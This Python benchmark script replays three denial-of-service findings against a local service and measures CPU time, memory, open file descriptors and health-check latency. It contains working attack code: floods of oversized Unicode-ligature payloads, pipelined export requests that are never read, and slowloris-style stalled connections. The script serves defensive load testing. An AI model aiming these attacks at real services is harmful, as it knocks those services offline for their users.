"""Replays the attacker's findings h1-h3 against a running service on 127.0.0.1 and prints
what they cost it: CPU time, RSS, open file descriptors, and /health latency under attack.

    python3 benches/attack.py PORT PID [--attackers 4] [--seconds 10] [--connections 50]

Standard library only. Every phase is bounded in time and in connections; every socket it
opens is closed before it returns. Used by benches/attack.sh.
"""

import argparse
import os
import socket
import statistics
import threading
import time

HOST = "127.0.0.1"
LIGATURE = "\ufdfd"  # 3 bytes of UTF-8, about 30 letters once transliterated


def cpu_seconds(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def rss_mib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0


def open_fds(pid):
    return len(os.listdir(f"/proc/{pid}/fd"))


class HealthProbe:
    """GET /health on a new connection every 100 ms, in a thread; latencies in ms."""

    def __init__(self, port):
        self.port = port
        self.latencies = []
        self.failures = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self.run, daemon=True)

    def run(self):
        while not self.stop.is_set():
            start = time.monotonic()
            try:
                with socket.create_connection((HOST, self.port), timeout=10) as s:
                    s.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
                    data = b""
                    while True:
                        chunk = s.recv(4096)
                        if not chunk:
                            break
                        data += chunk
                if not data.startswith(b"HTTP/1.1 200"):
                    self.failures += 1
                else:
                    self.latencies.append((time.monotonic() - start) * 1000)
            except OSError:
                self.failures += 1
            self.stop.wait(0.1)

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.stop.set()
        self.thread.join(timeout=15)

    def summary(self):
        if not self.latencies:
            return f"/health: no answer ({self.failures} failures)"
        lat = sorted(self.latencies)
        p99 = lat[min(len(lat) - 1, int(len(lat) * 0.99))]
        return (
            f"/health: {len(lat)} probes, p50 {statistics.median(lat):.2f} ms, "
            f"p99 {p99:.2f} ms, max {lat[-1]:.2f} ms, {self.failures} failures"
        )


def request(port, raw, timeout=10):
    """Sends raw bytes on a new connection and reads the answer to the end."""
    with socket.create_connection((HOST, port), timeout=timeout) as s:
        s.sendall(raw)
        while s.recv(65536):
            pass


def post(path, body):
    data = body.encode()
    head = (
        f"POST {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
        f"Content-Type: application/json\r\nContent-Length: {len(data)}\r\n\r\n"
    )
    return head.encode() + data


def hostile_requests():
    quoted = lambda s, n: ",".join([f'"{s}"'] * n)
    return [
        post("/v1/routines/generate", '{"muscles":[%s]}' % quoted(LIGATURE, 2600)),
        post("/v1/routines/generate", '{"conditions":[%s]}' % quoted(LIGATURE * 480, 10)),
        post("/v1/routines/generate", '{"exclude":[%s]}' % quoted(LIGATURE * 48, 100)),
        ("GET /v1/exercises/%s HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
         % ("%EF%B7%BD" * 900)).encode(),
    ]


def phase_h1(port, pid, attackers, seconds):
    """h1: attackers send hostile ids as fast as they can for `seconds`."""
    requests = hostile_requests()
    sent = [0] * attackers
    deadline = time.monotonic() + seconds

    def attack(i):
        k = 0
        while time.monotonic() < deadline and k < 1_000_000:
            try:
                request(port, requests[k % len(requests)])
                sent[i] += 1
            except OSError:
                pass
            k += 1

    cpu0 = cpu_seconds(pid)
    with HealthProbe(port) as probe:
        threads = [threading.Thread(target=attack, args=(i,)) for i in range(attackers)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
    cpu = cpu_seconds(pid) - cpu0
    n = sum(sent)
    print(f"h1: {attackers} attackers, {seconds} s: {n} hostile requests (16 KB bodies and 8 KB ids)")
    print(f"    service CPU {cpu:.2f} s = {cpu / max(n, 1) * 1000:.3f} ms per hostile request")
    print(f"    {probe.summary()}")


def phase_h2(port, pid, connections, pipelined):
    """h2: connections pipeline exports and never read; RSS while they hold on."""
    raw = b"GET /v1/catalogue/export HTTP/1.1\r\nHost: x\r\n\r\n" * pipelined
    rss0 = rss_mib(pid)
    socks = []
    peak = rss0

    def send_all(s):
        try:
            s.sendall(raw)
        except OSError:
            pass

    with HealthProbe(port) as probe:
        writers = []
        for _ in range(connections):
            s = socket.socket()
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            s.settimeout(5)
            s.connect((HOST, port))
            socks.append(s)
            t = threading.Thread(target=send_all, args=(s,))
            t.start()
            writers.append(t)
        for _ in range(50):  # 5 s of holding on, sampled every 100 ms
            peak = max(peak, rss_mib(pid))
            time.sleep(0.1)
        for t in writers:
            t.join(timeout=10)
    held = rss_mib(pid)
    for s in socks:
        s.close()
    time.sleep(1)
    print(f"h2: {connections} connections x {pipelined} pipelined exports, never read")
    print(f"    RSS {rss0:.1f} MiB before, peak {peak:.1f} MiB, {held:.1f} MiB at 5 s, "
          f"{rss_mib(pid):.1f} MiB 1 s after they closed")
    print(f"    {probe.summary()}")


def phase_h3(port, pid, connections, wait):
    """h3: connections that stall a body, or the head of a second request."""
    stalled = []
    fds0 = open_fds(pid)
    with HealthProbe(port) as probe:
        for i in range(connections):
            s = socket.socket()
            s.settimeout(5)
            try:
                s.connect((HOST, port))
                if i % 2 == 0:
                    s.sendall(b"POST /v1/routines/generate HTTP/1.1\r\nHost: x\r\n"
                              b"Content-Type: application/json\r\nContent-Length: 16000\r\n\r\n{")
                else:
                    s.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n")
                    s.recv(4096)
                    s.sendall(b"G")
                stalled.append(s)
            except OSError:
                s.close()
        fds_held = open_fds(pid)
        time.sleep(wait)
        fds_after = open_fds(pid)
        open_left = 0
        for s in stalled:
            s.setblocking(False)
            try:
                open_left += 1 if s.recv(1, socket.MSG_PEEK) is None else 0
            except BlockingIOError:
                open_left += 1  # nothing to read and not closed: still open
            except OSError:
                pass
            s.close()
    print(f"h3: {len(stalled)} stalled connections (half a body that never comes, half a second head)")
    print(f"    service fds {fds0} before, {fds_held} while stalled, {fds_after} after {wait} s; "
          f"{open_left} still open then")
    print(f"    {probe.summary()}")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("port", type=int)
    ap.add_argument("pid", type=int)
    ap.add_argument("--attackers", type=int, default=4)
    ap.add_argument("--seconds", type=int, default=10)
    ap.add_argument("--connections", type=int, default=50)
    ap.add_argument("--pipelined", type=int, default=2000)
    ap.add_argument("--stalled", type=int, default=1000)
    ap.add_argument("--h3-wait", type=int, default=8)
    a = ap.parse_args()
    phase_h1(a.port, a.pid, a.attackers, a.seconds)
    phase_h2(a.port, a.pid, a.connections, a.pipelined)
    phase_h3(a.port, a.pid, a.stalled, a.h3_wait)
    print(f"service alive: {os.path.exists(f'/proc/{a.pid}')}, RSS {rss_mib(a.pid):.1f} MiB")


if __name__ == "__main__":
    main()
